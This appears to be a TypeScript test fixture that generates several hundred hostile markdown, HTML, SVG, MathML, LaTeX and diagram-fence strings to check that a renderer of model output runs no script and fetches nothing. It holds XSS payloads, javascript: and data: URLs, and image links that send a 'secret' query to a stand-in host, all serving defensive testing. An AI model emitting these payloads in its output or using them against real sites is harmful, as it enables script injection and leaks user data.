/** One piece of hostile model text. */
export interface Attack {
  /** What it tries, for the report. */
  readonly name: string;
  readonly text: string;
}

/** Where an attack may be put in a message: each place has its own parsing. */
const places: Readonly<Record<string, (payload: string) => string>> = {
  alone: (payload) => payload,
  'in a sentence': (payload) => `Look at this: ${payload} and go on.`,
  'in a list': (payload) => `- one\n- ${payload}\n  - ${payload}`,
  'in a quote': (payload) => `> ${payload}`,
  'in a table': (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll('|', '\\|')} | x |`,
  'in a heading': (payload) => `## ${payload}`,
  'in bold': (payload) => `**${payload}**`,
};

/** Script a payload tries to run: it marks the page, which the test then finds. */
const mark = 'window.attacked=1';

const addressTemplates = (host: string): string[] => [
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}`,
  `java\tscript:${mark}`,
  `java&#10;script:${mark}`,
  `&#106;avascript:${mark}`,
  `javascript&colon;${mark}`,
  `\u0001javascript:${mark}`,
  ` javascript:${mark}`,
  `javascript://example.com/%0a${mark}`,
  `jav&#x09;ascript:${mark}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${mark}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${mark}>`,
  `blob:${host}/x`,
  `file:///etc/passwd`,
  `smb://evil.example/share`,
  `ms-msdt:/id`,
  `search-ms:query=x`,
  `intent://x#Intent;end`,
  `//${host.replace(/^https?:\/\//, '')}/protocol-relative`,
  `\\\\evil.example\\share`,
  `/relative`,
  `#fragment`,
  `?query`,
  `${host}/http`,
  `https://user:pass@evil.example/`,
  `https://evil.example\\@good.example/`,
  `view-source:${host}`,
  `filesystem:${host}/x`,
  `about:blank`,
];

const htmlTemplates = (host: string): string[] => [
  `<script>${mark}</script>`,
  `<script src="${host}/script.js"></script>`,
  `<SCRIPT SRC=${host}/a.js></SCRIPT>`,
  `<scr<script>ipt>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `<img src="${host}/img.png">`,
  `<img srcset="${host}/set.png 1x, ${host}/set2.png 2x">`,
  `<img/src=x/onerror=${mark}>`,
  `<svg onload="${mark}">`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><image href="${host}/svg.png"/></svg>`,
  `<svg><use href="${host}/s.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${mark}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
  `<svg><style>@import url(${host}/s.css)</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${mark}">`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${mark}">x</maction></math>`,
  `<iframe src="${host}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<iframe src="javascript:${mark}"></iframe>`,
  `<object data="${host}/object"></object>`,
  `<embed src="${host}/embed">`,
  `<applet code="${host}/a"></applet>`,
  `<link rel="stylesheet" href="${host}/style.css">`,
  `<link rel="prefetch" href="${host}/prefetch">`,
  `<link rel="dns-prefetch" href="${host}">`,
  `<link rel="preconnect" href="${host}">`,
  `<link rel="icon" href="${host}/icon.png">`,
  `<link rel="modulepreload" href="${host}/m.js">`,
  `<link rel="manifest" href="${host}/m.json">`,
  `<style>body{background:url(${host}/css.png)}</style>`,
  `<style>@import "${host}/i.css";</style>`,
  `<style>@font-face{font-family:a;src:url(${host}/f)}</style>`,
  `<div style="background:url(${host}/attr.png)">x</div>`,
  `<div style="background-image:image-set('${host}/is.png' 1x)">x</div>`,
  `<p style="position:fixed;inset:0">cover</p>`,
  `<audio src="${host}/a.mp3" autoplay></audio>`,
  `<video src="${host}/v.mp4" poster="${host}/p.png"></video>`,
  `<video><track src="${host}/t.vtt" default></video>`,
  `<video><source src="${host}/s.mp4" onerror="${mark}"></video>`,
  `<picture><source srcset="${host}/pic.webp"><img src="${host}/pic.png"></picture>`,
  `<input type="image" src="${host}/in.png">`,
  `<input autofocus onfocus="${mark}">`,
  `<body background="${host}/bg.png" onload="${mark}">`,
  `<table background="${host}/tb.png"><tr><td>x</td></tr></table>`,
  `<a href="${host}/ping" ping="${host}/ping">x</a>`,
  `<base href="${host}/">`,
  `<meta http-equiv="refresh" content="0;url=${host}/meta">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<form action="${host}/form"><button autofocus>x</button></form>`,
  `<details open ontoggle="${mark}"><summary>x</summary></details>`,
  `<marquee onstart="${mark}">x</marquee>`,
  `<dialog open onclose="${mark}">x</dialog>`,
  `<select autofocus onfocus="${mark}"></select>`,
  `<template><img src=x onerror="${mark}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${mark}>">`,
  `<!--><img src=x onerror=${mark}>-->`,
  `<![CDATA[><img src=x onerror=${mark}>]]>`,
  `<?xml-stylesheet href="${host}/x.xsl"?>`,
  `<x onclick="${mark}" autofocus tabindex=0>x</x>`,
  `<a href="javascript:${mark}">x</a>`,
  `<a href="${host}/nav" target="_blank">x</a>`,
  `<button onclick="${mark}" formaction="${host}/fa">x</button>`,
  `<webview src="${host}/webview"></webview>`,
  `<p title='"><img src=x onerror=${mark}>'>x</p>`,
  `"><img src=x onerror=${mark}>`,
  `'-${mark}-'`,
  `\`\`\`<img src=x onerror=${mark}>`,
  `&lt;img src=x onerror=${mark}&gt;`,
  `&#60;script&#62;${mark}&#60;/script&#62;`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${host}/spec"]}]}</script>`,
  `<portal src="${host}/portal"></portal>`,
  `<fencedframe src="${host}/ff"></fencedframe>`,
  `<img lowsrc="${host}/low.png" dynsrc="${host}/dyn.png">`,
];

const mathTemplates = (host: string): string[] => [
  `$\\href{javascript:${mark}}{x}$`,
  `$\\href{${host}/math}{x}$`,
  `$\\url{javascript:${mark}}$`,
  `$\\includegraphics{${host}/math.png}$`,
  `$\\htmlClass{evil}{x}$`,
  `$\\htmlId{root}{x}$`,
  `$\\htmlStyle{background:url(${host}/hs.png)}{x}$`,
  `$\\htmlData{a=b}{x}$`,
  `$\\color{red;background:url(${host}/c.png)}x$`,
  `$\\textcolor{url(${host}/tc)}{x}$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `$\\unicode{<img src=x onerror=${mark}>}$`,
  `$<img src=x onerror=${mark}>$`,
  `$$\n\\rule{1e9em}{1e9em}\n$$`,
  `\\[ \\kern1e9em x \\]`,
  `\\( \\text{<script>${mark}</script>} \\)`,
  `$\\newcommand{\\x}{\\href{javascript:${mark}}{y}}\\x$`,
];

const fenceTemplates = (host: string): string[] =>
  [
    'mermaid',
    'svg',
    'html',
    'js',
    'dot',
    'plantuml',
    'latex',
    'math',
    '"><img src=x onerror=window.attacked=1>',
    '__proto__',
    'constructor',
  ].flatMap((language) => [
    `\`\`\`${language}\n<img src="${host}/fence.png" onerror="${mark}">\n\`\`\``,
    `\`\`\`${language}\ngraph TD\n  A["<img src=${host}/mermaid.png onerror=${mark}>"] --> B\n  click A "javascript:${mark}"\n  style A fill:url(${host}/fill)\n%%{init: {"themeCSS": "*{background:url(${host}/css)}"}}%%\n\`\`\``,
  ]);

/**
 * Hostile texts, some hundreds: script by HTML, SVG, MathML, links and formulas; requests to `host` by pictures, links,
 * CSS, prefetching, media, fences. Drawn, they must run nothing, fetch nothing and break no rule of the page's policy.
 */
export function attacks(host: string): Attack[] {
  const linked = addressTemplates(host).flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `[x]: ${address}\n\n[x]`,
    `<${address}>`,
    `![x](${address})`,
    `[![x](${address})](${address})`,
    `![x][y]\n\n[y]: <${address}> "t"`,
    `[x](${address} "${mark}")`,
    address,
  ]);
  const pictures = ['png', 'svg', 'gif?q=secret', '%22onerror=window.attacked=1'].flatMap((name) => [
    `![leak](${host}/${name})`,
    `![leak][1]\n\n[1]: ${host}/${name}`,
    `![leak](<${host}/${name}> "title")`,
    `![" onerror="${mark}](${host}/${name})`,
    `[![leak](${host}/${name})](https://example.com)`,
  ]);
  const plain = [...linked, ...pictures, ...fenceTemplates(host)].map((text, i) => ({
    name: `${i}: ${text.slice(0, 60)}`,
    text,
  }));
  const placed = [...htmlTemplates(host), ...mathTemplates(host)].flatMap((payload) =>
    Object.entries(places).map(([place, put]) => ({
      name: `${place}: ${payload.slice(0, 60)}`,
      text: put(payload),
    })),
  );
  return [...plain, ...placed];
}
